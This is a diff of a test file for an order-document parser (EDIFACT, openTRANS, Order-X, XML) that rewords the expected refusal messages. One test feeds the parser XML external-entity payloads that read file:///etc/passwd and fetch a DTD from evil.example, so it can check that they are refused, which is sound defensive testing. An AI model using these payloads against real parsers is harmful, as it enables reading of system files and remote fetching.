@@ -220,7 +220,9 @@ test('half an EDIFACT message, and one with another number of segments, are refu
   const whole = edifact(edifactLines)
   expect(refusalOf(whole.slice(0, whole.indexOf('UNS')))).toMatch(/ends before its message/)
   expect(refusalOf(edifact(edifactLines, 3))).toMatch(/should have \d+ segments/)
-  expect(refusalOf(whole.replaceAll('ORDERS:D', 'INVOIC:D'))).toMatch(/type INVOIC, not an order/)
+  expect(refusalOf(whole.replaceAll('ORDERS:D', 'INVOIC:D'))).toMatch(
+    /an EDIFACT INVOIC message, not an order/,
+  )
 })
 
 test('an openTRANS order, 2.1 and 1.0', () => {
@@ -294,7 +296,7 @@ test('an Order-X is the same as XML and within a PDF', () => {
       price: '7.10',
     },
   ])
-  expect(refusalOf(orderX('231'))).toMatch(/an answer to an order/)
+  expect(refusalOf(orderX('231'))).toMatch(/an order response/)
 })
 
 test('of several files of XML in a PDF the last order is read, and how many there are', () => {
@@ -336,7 +338,7 @@ test('entities of a file, bombs of them and files of others are never followed',
   const outside = `<!DOCTYPE Order [<!ENTITY x SYSTEM "file:///etc/passwd">]><Order><ID>&x;</ID></Order>`
   const parameter = `<!DOCTYPE Order [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><Order><ID>1</ID></Order>`
   for (const text of [bomb, outside, parameter])
-    expect(refusalOf(text)).toMatch(/document type with entities of its own/)
+    expect(refusalOf(text)).toMatch(/document type declaration with its own entities/)
 })
 
 test('XML without end in depth, of broken elements or of no order is refused in words', () => {
@@ -346,7 +348,7 @@ test('XML without end in depth, of broken elements or of no order is refused in 
   expect(refusalOf('<Order><ID>1</Order>')).toMatch(/not well-formed/)
   expect(refusalOf('<Order><ID>1</ID></Order>')).toMatch(/order without lines/)
   expect(refusalOf('<Invoice><ID>1</ID></Invoice>')).toMatch(/not an order/)
-  expect(refusalOf('<note><to>all</to></note>')).toMatch(/XML with the element note/)
+  expect(refusalOf('<note><to>all</to></note>')).toMatch(/XML with the root element note/)
   const many = `<Order>${'<OrderLine><LineItem/></OrderLine>'.repeat(1001)}</Order>`
   expect(refusalOf(many)).toMatch(/1,001 lines/)
 })
